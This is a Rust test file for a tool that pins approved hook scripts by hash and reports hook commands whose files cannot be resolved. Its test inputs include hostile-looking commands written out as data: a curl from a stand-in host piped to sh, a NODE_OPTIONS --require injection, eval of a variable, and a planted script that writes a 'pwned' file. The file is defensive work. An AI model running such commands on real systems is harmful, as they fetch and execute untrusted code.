//! Which files a command names, in all the ways in which commands name files.

use serde_json::json;

use crate::stage::{ALLOW, DENY, Stage};

/// Whether an edit of `script` is noticed where `command` was approved.
fn notices(command: &str, script: &str) -> bool {
    let stage = Stage::new();
    stage.write(&format!("repo/{script}"), DENY);
    stage.mode(&format!("repo/{script}"), 0o755);
    stage.command("repo/.rightnow/hooks/a.json", command);
    stage.approve();
    stage.write(&format!("repo/{script}"), ALLOW);
    stage.fire() == "untrusted"
}

#[test]
fn a_script_is_pinned_however_the_command_names_it() {
    let commands = [
        "sh hooks/x.sh",
        "sh ./hooks/x.sh --fast",
        "bash -e 'hooks/x.sh'",
        "LC_ALL=C exec sh \"hooks/x.sh\"",
        "sh $RIGHTNOW_WORKSPACE_ROOT/hooks/x.sh",
        "\"${CLAUDE_PROJECT_DIR}\"/hooks/x.sh",
        "sh \"$(git rev-parse --show-toplevel)/hooks/x.sh\"",
        "cd hooks && sh x.sh",
        "cd hooks; ./x.sh",
        "true | sh hooks/x.sh 2>&1",
        "if true; then sh hooks/x.sh; fi",
        "sh -c 'sh hooks/x.sh'",
        "sh < hooks/x.sh",
        ". ./hooks/x.sh",
        "H=hooks; sh $H/x.sh",
        "cat hooks/x.sh | sh",
        "env -i sh hooks/x.sh",
        "../../hooks/x.sh",
        "timeout 5 sh hooks/x.sh",
        "echo \"$(sh hooks/x.sh)\"",
        "python3 -c 'import os; os.system(\"sh hooks/x.sh\")'",
        "sh --rcfile=hooks/x.sh -c true",
    ];
    for command in commands {
        assert!(notices(command, "hooks/x.sh"), "{command}");
    }
}

#[test]
fn a_file_beside_the_hooks_file_is_pinned() {
    assert!(notices("x.sh", ".rightnow/hooks/x.sh"));
    assert!(notices("./x.sh", ".rightnow/hooks/x.sh"));
    assert!(notices("sub/my script.sh", ".rightnow/hooks/sub/my script.sh"), "a whole text that names a file is that file");
}

#[test]
fn reformas_scripts_are_looked_for_where_its_hooks_start() {
    for command in
        ["sh ./hooks/x.sh", "sh hooks/x.sh", "sh ${REFORMA_CONFIG_DIR}/hooks/x.sh", "sh \"$REFORMA_PROJECT_DIR\"/.reforma/hooks/x.sh"]
    {
        let stage = Stage::new();
        stage.write("repo/.reforma/hooks/x.sh", DENY);
        stage.command("repo/.reforma/hooks/hooks.json", command);
        assert_eq!(stage.review()["unresolved"], json!([]), "{command}");
        stage.approve();
        assert_eq!(stage.fire(), "ran", "{command}");
        stage.write("repo/.reforma/hooks/x.sh", ALLOW);
        assert_eq!(stage.fire(), "untrusted", "{command}");
    }
}

#[test]
fn scripts_that_arguments_and_variables_name_are_pinned() {
    for handler in [
        json!({ "type": "command", "command": "sh", "args": ["${RIGHTNOW_WORKSPACE_ROOT}/hooks/x.sh"] }),
        json!({ "type": "command", "command": "sh", "args": ["hooks/x.sh"] }),
        json!({ "type": "command", "command": "true", "env": { "RUN": "hooks/x.sh" } }),
        json!({ "type": "command", "command": "true", "env": { "NODE_OPTIONS": "--require=./hooks/x.sh" } }),
        json!({ "type": "command", "command": "sh $S", "env": { "S": "hooks/x.sh" } }),
    ] {
        let stage = Stage::new();
        stage.write("repo/hooks/x.sh", DENY);
        stage.hook("repo/.rightnow/hooks/a.json", "PreToolUse", &handler);
        stage.approve();
        stage.write("repo/hooks/x.sh", ALLOW);
        assert_eq!(stage.fire(), "untrusted", "{handler}");
    }
}

#[test]
fn the_review_lists_the_files_with_their_sha256() {
    let stage = Stage::guarded();
    stage.write("repo/hooks/guard.sh", "abc");
    let review = stage.review();
    let sha256 = "sha256:ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad";
    assert_eq!(review["files"], json!([{ "path": "hooks/guard.sh", "sha256": sha256 }]));
    assert_eq!(review["hooks"][0]["files"], json!(["hooks/guard.sh"]));
    assert_eq!(review["unresolved"], json!([]));
    assert_eq!(review["root"], json!(stage.path("repo").display().to_string()));
}

#[test]
fn links_are_followed_to_the_bytes() {
    let stage = Stage::guarded();
    stage.write("repo/lib/real.sh", DENY);
    stage.write("repo/lib/other.sh", DENY);
    stage.link("repo/hooks/guard.sh", "../lib/real.sh");
    stage.approve();
    assert_eq!(stage.review()["files"][0]["path"], "lib/real.sh");
    assert_eq!(stage.fire(), "ran");
    stage.link("repo/hooks/guard.sh", "../lib/other.sh");
    assert_eq!(stage.fire(), "untrusted", "a link that leads elsewhere is another thing, even with equal bytes");
    stage.link("repo/hooks/guard.sh", "../lib/real.sh");
    assert_eq!(stage.fire(), "ran");
    stage.write("repo/lib/real.sh", ALLOW);
    assert_eq!(stage.fire(), "untrusted");
}

#[test]
fn a_link_out_of_the_project_is_pinned_and_said() {
    let stage = Stage::guarded();
    stage.write("elsewhere/x.sh", DENY);
    stage.link("repo/hooks/guard.sh", "../../elsewhere/x.sh");
    let review = stage.review();
    assert!(review["unresolved"].to_string().contains("leads out of the project"), "{review}");
    stage.approve();
    assert_eq!(stage.fire(), "ran");
    stage.write("elsewhere/x.sh", ALLOW);
    assert_eq!(stage.fire(), "untrusted");
}

#[test]
fn a_script_that_appears_after_the_approval_does_not_run() {
    for (command, file) in
        [("sh hooks/later.sh", "hooks/later.sh"), ("later", ".rightnow/hooks/later"), ("cd hooks && sh later.sh", "hooks/later.sh")]
    {
        let stage = Stage::new();
        std::fs::create_dir_all(stage.path("repo/hooks")).expect("a directory");
        stage.command("repo/.rightnow/hooks/a.json", command);
        stage.approve();
        stage.write(&format!("repo/{file}"), &format!("touch {}\n", stage.path("pwned").display()));
        stage.mode(&format!("repo/{file}"), 0o755);
        assert_eq!(stage.fire(), "untrusted", "{command}");
        assert!(!stage.path("pwned").exists(), "{command}");
    }
}

#[test]
fn what_a_hook_writes_is_not_what_it_is() {
    let stage = Stage::new();
    stage.command("repo/.rightnow/hooks/a.json", "echo x >> hooks.log 2>err.log");
    stage.write("repo/hooks.log", "");
    stage.approve();
    for _ in 0..3 {
        assert_eq!(stage.fire(), "ran");
    }
    assert_eq!(stage.read("repo/hooks.log"), "x\nx\nx\n");
    assert_eq!(stage.review()["files"], json!([]));
}

#[test]
fn what_nobody_can_tell_before_it_runs_is_said() {
    let cases = [
        ("curl -s https://x.example/i | sh", "standard input"),
        ("sh \"$TOOLS/x.sh\"", "variable `TOOLS`"),
        ("$TOOLS/x", "variable `TOOLS`"),
        ("npx some-hook", "`npx`"),
        ("make lint", "`make`"),
        ("python3 -m pkg", "`python3 -m`"),
        ("sh hooks/*.sh", "a pattern"),
        ("sh missing.sh", "no script `missing.sh`"),
        ("no-such-program-at-all", "no program `no-such-program-at-all` is on PATH"),
        ("/etc/profile.d/none", "no program"),
        ("sh /etc/passwd", "outside of the project"),
        ("eval \"$X\"", "`eval`"),
        ("sh -c \"$X\"", "variable `X`"),
        ("node lib", "a directory"),
        ("true; sh 'open", "not closed"),
        ("sh <<END\ntrue\nEND", "here-document"),
    ];
    for (command, words) in cases {
        let stage = Stage::new();
        stage.write("repo/lib/x.js", "");
        stage.command("repo/.rightnow/hooks/a.json", command);
        let review = stage.review();
        let unresolved = review["unresolved"].to_string();
        assert!(unresolved.contains(words), "{command}: {unresolved}");
        assert_eq!(review["unresolved"][0]["hook"], review["hooks"][0]["name"]);
        let shown = stage.snell(&["trust", "--show"]).out;
        assert!(shown.contains("unpinned"), "{shown}");
    }
}

#[test]
fn a_plain_command_leaves_nothing_unsaid() {
    for command in [
        "sh hooks/x.sh",
        "cat | grep -q x && exit 2",
        "cd hooks && sh ./x.sh",
        "echo '{}'",
        "sed -n 1p hooks/x.sh",
        "hooks/x.sh",
        "test -f x || exit 0",
    ] {
        let stage = Stage::new();
        stage.write("repo/hooks/x.sh", ALLOW);
        stage.write("repo/.rightnow/hooks/hooks/x.sh", ALLOW);
        stage.command("repo/.rightnow/hooks/a.json", command);
        assert_eq!(stage.review()["unresolved"], json!([]), "{command}");
    }
}

#[test]
fn an_https_hook_with_variables_is_said() {
    let stage = Stage::new();
    stage.hook("repo/.rightnow/hooks/a.json", "PreToolUse", &json!({ "type": "http", "url": "https://example.org/${TOKEN}" }));
    assert!(stage.review()["unresolved"].to_string().contains("depends on variables"));
}

#[test]
fn what_a_pinned_script_names_in_turn_is_said() {
    let stage = Stage::guarded();
    stage.write("repo/hooks/lib.sh", "");
    stage.write("repo/hooks/guard.sh", ". \"$(dirname \"$0\")/lib.sh\"\n");
    assert!(stage.review()["unresolved"].to_string().contains("`hooks/guard.sh` names `hooks/lib.sh`, which is not pinned"));
}
